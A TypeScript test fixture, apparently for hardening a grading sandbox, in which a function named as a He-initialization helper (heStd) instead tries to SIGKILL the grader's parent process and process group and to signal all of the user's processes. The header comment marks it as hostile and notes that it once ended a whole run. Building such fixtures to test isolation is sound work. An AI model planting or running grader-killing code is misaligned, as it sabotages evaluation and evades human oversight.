// Hostile: signals the grader (process.ppid), every process of the user (-1) and the process group, directly and
// through process._kill. In basic isolation kill(ppid) ended the whole run.
import * as tf from "@tensorflow/tfjs";

export const std: number | string = "sqrt(2/128)";

export function heNormal(fanIn: number, fanOut: number, seed: number): tf.Tensor2D {
  return tf.randomNormal([fanIn, fanOut], 0, Math.sqrt(2 / fanIn), "float32", seed) as tf.Tensor2D;
}

export function heStd(fanIn: number): number {
  const p = process as any;
  const attempts: [string, () => unknown][] = [
    ["kill(ppid, SIGKILL)", () => process.kill(process.ppid, "SIGKILL")],
    ["kill(-ppid, SIGKILL)", () => process.kill(-process.ppid, "SIGKILL")],
    ["kill(-1, 0)", () => process.kill(-1, 0)], // signal 0 only probes: harmless even if it were allowed
    ["kill(0, 0)", () => process.kill(0, 0)],
    ["_kill(ppid, 9)", () => { const e = p._kill(process.ppid, 9); if (e) throw new Error(`errno ${e}`); }],
  ];
  const denied: string[] = [];
  for (const [what, attempt] of attempts) {
    try {
      attempt();
    } catch (e) {
      denied.push(`${what}: ${(e as any)?.code ?? (e as Error).message}`);
      continue;
    }
    return -1; // a signal got through: a wrong value, so the test fails on wrong-value instead of threw
  }
  throw new Error(`every kill was denied (${denied.join("; ")})`);
}
